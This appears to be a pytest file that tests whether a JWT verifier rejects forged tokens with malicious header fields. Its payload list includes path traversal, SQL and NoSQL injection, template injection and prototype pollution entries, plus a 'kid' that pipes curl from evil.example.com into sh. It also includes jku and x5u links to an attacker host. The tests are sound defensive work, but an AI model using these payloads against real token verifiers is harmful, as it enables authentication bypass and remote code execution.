"""A token's header names its key; it can't contain a key, link to one, or redirect the look-up."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING, Any

import pytest

from tests.tokens import LEFT_OUT, Forger, encoded, is_accepted

if TYPE_CHECKING:
    import httpx

OWN_KEY = b"an attacker's own key of 32 byte"
OWN_JWK = {"kty": "oct", "k": encoded(OWN_KEY), "alg": "HS256"}
# Values of `kid` that attack the look-up, and the key that the attacker expects from it.
KIDS: dict[str, tuple[Any, bytes]] = {
    "a path to an empty file": ("../../../../../../dev/null", b""),
    "a path to a known file": ("/proc/sys/kernel/ostype", b"Linux\n"),
    "a path in Windows": ("..\\..\\..\\windows\\win.ini", b""),
    "an encoded path": ("%2e%2e%2f%2e%2e%2fdev%2fnull", b""),
    "a path behind a NUL": ("x\0/../../dev/null", b""),
    "SQL": ("x' UNION SELECT 'k' -- ", b"k"),
    "a query operator": ({"$ne": ""}, b""),
    "a shell command": ("x; curl https://evil.example.com |sh", b""),
    "a template": ("{{7*7}}${7*7}", b"49"),
    "a URL": ("https://evil.example.com/key", OWN_KEY),
    "a file URL": ("file:///dev/null", b""),
    "a data URL": (f"data:application/octet-stream;base64,{encoded(OWN_KEY)}", OWN_KEY),
    "a secret's name": ("ecommerce/local/jwt/secret", b""),
    "a member of the secret": ("keys", b""),
    "another member of the secret": ("current", b""),
    "an attribute": ("__class__", b""),
    "a NUL": ("\0", b"\0"),
    "nothing": ("", b""),
    "a space": (" ", b""),
    "null": (None, b""),
    "true": (True, b""),
    "zero": (0, b""),
    "a number": (-1, b""),
    "a fraction": (1.5, b""),
    "a list": (["a"], b""),
    "no kid": (LEFT_OUT, b""),
    "a huge kid": ("k" * 6000, b""),
    "a lone surrogate": ("\ud800", b""),
}
# Members outside our headers: those that contain a key or link to one, and those that change the parsing.
MEMBERS: list[dict[str, Any]] = [
    {"jku": "https://evil.example.com/jwks.json"},
    {"jku": "http://127.0.0.1/jwks.json"},
    {"x5u": "https://evil.example.com/cert.pem"},
    {"jwk": OWN_JWK},
    {"jwk": {"kty": "oct", "k": ""}},
    {"x5c": ["MIIB"]},
    {"x5c": []},
    {"x5t": encoded(hashlib.sha256(b"cert").digest()[:20])},
    {"x5t#S256": encoded(hashlib.sha256(b"cert").digest())},
    {"crit": ["exp"]},
    {"crit": []},
    {"crit": ["b64"], "b64": True},
    {"crit": ["b64"], "b64": False},
    {"b64": True},
    {"b64": False},
    {"zip": "DEF"},
    {"cty": "JWT"},
    {"enc": "A256GCM"},
    {"p2c": 2_147_483_647, "p2s": "AAAA"},
    {"epk": {"kty": "EC"}},
    {"nonce": "x"},
    {"alg ": "HS256"},
    {"": ""},
    {"__proto__": {"alg": "none"}},
    {"exp": 9_999_999_999},
]
TYPES = ["at+jwt", "refresh", "JWE", "JOSE", "jwt", "", None, 1, ["JWT"], {"typ": "JWT"}, LEFT_OUT]


def test_valid_forged_token_is_accepted(anonymous: httpx.Client, forger: Forger) -> None:
    assert is_accepted(anonymous, forger.sign(forger.header()))


@pytest.mark.parametrize(("kid", "key"), KIDS.values(), ids=KIDS)
def test_forged_kid_finds_no_key(anonymous: httpx.Client, forger: Forger, kid: Any, key: bytes) -> None:
    for hoped_for in (key, OWN_KEY, forger.key):
        assert not is_accepted(anonymous, forger.sign(forger.header(kid=kid), key=hoped_for))


@pytest.mark.parametrize("change", [str.upper, str.title, str.swapcase, "{} ".format, " {}".format, "{}\0".format])
def test_kid_is_compared_exactly(anonymous: httpx.Client, forger: Forger, change: Any) -> None:
    other = change(forger.kid)

    assert is_accepted(anonymous, forger.sign(forger.header(kid=other))) == (other == forger.kid)


def test_kid_of_one_key_doesnt_verify_another_keys_signature(anonymous: httpx.Client, forger: Forger) -> None:
    assert not is_accepted(anonymous, forger.sign(key=OWN_KEY))
    assert not is_accepted(anonymous, forger.sign(key=forger.key[::-1]))
    assert not is_accepted(anonymous, forger.sign(key=forger.key + b"\1"))


@pytest.mark.parametrize("member", MEMBERS, ids=repr)
def test_header_with_an_extra_member_and_a_valid_signature_is_rejected(
    anonymous: httpx.Client, forger: Forger, member: dict[str, Any]
) -> None:
    assert not is_accepted(anonymous, forger.sign(forger.header(**member)))
    assert not is_accepted(anonymous, forger.sign(forger.header(**member), key=OWN_KEY))


@pytest.mark.parametrize("named", TYPES, ids=repr)
def test_token_of_another_type_is_rejected(anonymous: httpx.Client, forger: Forger, named: object) -> None:
    assert not is_accepted(anonymous, forger.sign(forger.header(typ=named)))
